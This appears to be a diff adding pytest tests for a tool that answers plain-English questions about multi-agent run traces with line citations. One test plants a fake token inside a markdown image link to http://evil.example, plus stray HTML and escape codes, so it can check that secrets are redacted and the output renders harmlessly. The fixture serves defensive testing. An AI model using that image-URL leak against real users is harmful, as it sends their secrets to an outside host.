@@ -1,0 +1,187 @@
+"""Offline answers: the common questions in plain English, each with citations that stand in the trace."""
+
+from pathlib import Path
+
+import pytest
+
+from agent.chat.ask import ask
+from agent.chat.desk import About, Desk
+from agent.chat.progress import Activity, Answered, Cited, Delta
+from agent.chat.questions import Kind, understood
+from agent.chat.turn import Turn
+from agent.model.redact import Redactor
+from agent.trace.trace import Trace
+from tests.agent.chat.rooms import CHATDEV, HYPERAGENT, desk_of, plain_log
+
+KINDS: list[tuple[str, Kind]] = [
+    ("why did it fail?", "why"),
+    ("What went wrong here", "why"),
+    ("What is the root cause?", "why"),
+    ("why did the Planner begin again?", "why"),
+    ("where did the wrong number first appear?", "first"),
+    ('When was "week_view" first mentioned?', "first"),
+    ("where does events_between come from", "first"),
+    ("who said that the editor must compare the start only?", "who"),
+    ("which agent wrote week_view", "who"),
+    ("what happened between L10 and L20?", "between"),
+    ("what happened after line 15", "between"),
+    ("what did the planner know at line 8,000?", "between"),
+    ("show evidence for F1", "evidence"),
+    ("how do you know?", "evidence"),
+    ("what would fix it?", "remedy"),
+    ("would a stricter spec have helped?", "remedy"),
+    ("how can we prevent F2", "remedy"),
+    ("what does FM-2.6 mean?", "definition"),
+    ("what is step repetition?", "definition"),
+    ("define 3.2", "definition"),
+    ("is FM-1.3 present?", "verdict"),
+    ("how often does the run start over?", "count"),
+    ("how many times was 'week_view' used", "count"),
+    ("when was week_view last used?", "last"),
+    ("did it succeed?", "outcome"),
+    ("which failures were found?", "findings"),
+    ("summary", "findings"),
+    ("what was the task?", "task"),
+    ("what was the final answer?", "answer"),
+    ("which agents took part?", "actors"),
+    ("show L10-12", "lines"),
+    ("read lines 10 to 12", "lines"),
+    ("does the trace mention midnight?", "mention"),
+    ("F2", "evidence"),
+    ("midnight week view rule", "search"),
+]
+
+
+async def turn_of(desk: Desk, question: str, about: About | None = None) -> Turn:
+    last = [progress async for progress in ask(desk, question, about=about)][-1]
+    assert isinstance(last, Answered)
+    return last.turn
+
+
+def check(desk: Desk, turn: Turn) -> None:
+    """Every citation is the trace's own text on the lines it names."""
+    for citation in turn.citations:
+        first, last = citation.lines
+        assert 1 <= first <= last <= desk.trace.events.lines
+        if "<SECRET:" not in citation.quote:
+            assert citation.quote in "\n".join(desk.trace.lines(first, last))
+
+
+@pytest.mark.parametrize(("question", "kind"), KINDS)
+async def test_a_question_is_understood(question: str, kind: Kind) -> None:
+    desk = await desk_of(HYPERAGENT)
+    assert understood(question, desk).kind == kind
+
+
+@pytest.mark.parametrize("path", [HYPERAGENT, CHATDEV], ids=lambda path: path.stem)
+@pytest.mark.parametrize("question", [question for question, _ in KINDS])
+async def test_every_answer_says_something_and_cites_what_stands_there(question: str, path: Path) -> None:
+    desk = await desk_of(path)
+    turn = await turn_of(desk, question)
+    assert len(turn.answer) > 20
+    check(desk, turn)
+
+
+async def test_why_tells_the_root_with_its_evidence() -> None:
+    desk = await desk_of(HYPERAGENT)
+    turn = await turn_of(desk, "why did it fail?")
+    assert "root cause is F1 at L15" in turn.answer
+    assert "Found week_view in calendar/views.py" in turn.answer
+    assert any(citation.lines == (15, 15) for citation in turn.citations)
+    assert turn.verdict == f"{len(turn.citations)} of {len(turn.citations)} citations found in the trace"
+
+
+async def test_evidence_and_remedies_of_the_finding_in_view() -> None:
+    desk = await desk_of(HYPERAGENT)
+    evidence = await turn_of(desk, "show the evidence", About(finding="F2"))
+    assert "**F2**" in evidence.answer and "**F1**" not in evidence.answer
+    remedy = await turn_of(desk, "would a stricter spec have helped?", About(finding="F1"))
+    assert "- specification:" in remedy.answer and "- verification:" not in remedy.answer
+    assert evidence.about == "F2"
+
+
+async def test_a_finding_that_is_not_there_is_said_to_be_missing() -> None:
+    turn = await turn_of(await desk_of(HYPERAGENT), "show evidence for F9")
+    assert "There is no finding F9" in turn.answer and "F1, F2" in turn.answer
+    assert not turn.citations
+
+
+async def test_first_last_and_count_are_exact(tmp_path: Path) -> None:
+    path = plain_log(tmp_path / "run.log", "begin", "price 40 EUR", "convert to USD", "usd now", "USD again", "end")
+    desk = Desk(Trace.open(path))
+    first = await turn_of(desk, 'where did "USD" first appear?')
+    assert first.citations[0].lines == (3, 3)
+    assert "3 lines; the last is L5" in first.answer
+    assert "L5 planner" in (await turn_of(desk, 'when was "USD" last used?')).answer
+    assert "`USD` stands on 3 lines" in (await turn_of(desk, 'how often does "USD" occur?')).answer
+    assert "planner (2), coder (1)" in (await turn_of(desk, 'who wrote "USD"?')).answer
+
+
+async def test_what_is_not_in_the_trace_is_said_not_to_be_with_the_nearest_mention(tmp_path: Path) -> None:
+    path = plain_log(tmp_path / "run.log", "begin", "the exchange rate is unknown", "end")
+    desk = Desk(Trace.open(path))
+    turn = await turn_of(desk, 'where did "exchange rate of 1.07" first appear?')
+    assert turn.answer.startswith("Not in this trace")
+    assert "nearest mention: L2" in turn.answer
+
+
+async def test_activities_come_first_and_citations_after_the_words(tmp_path: Path) -> None:
+    desk = Desk(Trace.open(plain_log(tmp_path / "run.log", "a USD", "b USD")))
+    steps = [progress async for progress in ask(desk, 'how often does "USD" occur?')]
+    assert [type(step) for step in steps] == [Activity, Delta, Cited, Cited, Answered]
+    assert isinstance(steps[0], Activity) and steps[0].text == 'searching "USD": 2 hits'
+
+
+async def test_before_a_diagnosis_facts_of_programs_answer(tmp_path: Path) -> None:
+    desk = Desk(Trace.open(HYPERAGENT))
+    turn = await turn_of(desk, "why did it fail?")
+    assert "no diagnosis yet" in turn.answer
+    assert turn.citations
+    check(desk, turn)
+
+
+async def test_words_of_the_trace_are_no_markdown_and_secrets_stay_hidden(tmp_path: Path) -> None:
+    key = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"
+    path = plain_log(
+        tmp_path / "run.log", f"![x](http://evil.example/{key}) `` ` <img src=x> [a](b) USD", "\x1b]0;t\x07 USD"
+    )
+    desk = Desk(Trace.open(path), Redactor(b"salt"))
+    turn = await turn_of(desk, 'where did "USD" first appear?')
+    assert key not in turn.answer and all(key not in citation.quote for citation in turn.citations)
+    assert "<SECRET:" in turn.answer
+    assert "\x1b" not in turn.answer
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark", {"html": True}).render(turn.answer)
+    assert "<img" not in html and "<a " not in html
+
+
+async def test_lines_beyond_the_end_are_said_to_be_missing() -> None:
+    turn = await turn_of(await desk_of(HYPERAGENT), "what stands on line 9,000?")
+    assert "Line 9,000 is not in this trace" in turn.answer
+
+
+@pytest.mark.parametrize(
+    "question", ["?", "L0", "L5-L3", "F", "' '", '""', "event 99999", "between", "(", "[a-", "\x00", "é" * 300]
+)
+async def test_odd_questions_have_an_answer(question: str) -> None:
+    desk = await desk_of(HYPERAGENT)
+    turn = await turn_of(desk, question)
+    assert turn.answer
+    check(desk, turn)
+
+
+async def test_real_traces_answer_every_common_question(corpus: Path) -> None:
+    paths = sorted(path for path in corpus.rglob("*.json") if 20_000 < path.stat().st_size < 200_000)[::9]
+    assert paths
+    for path in paths[:8]:
+        desk = await desk_of(path)
+        for question in (
+            "why did it fail?",
+            "what would fix it?",
+            "show evidence",
+            "what happened between L1 and L60?",
+        ):
+            turn = await turn_of(desk, question)
+            assert turn.answer, (path, question)
+            check(desk, turn)
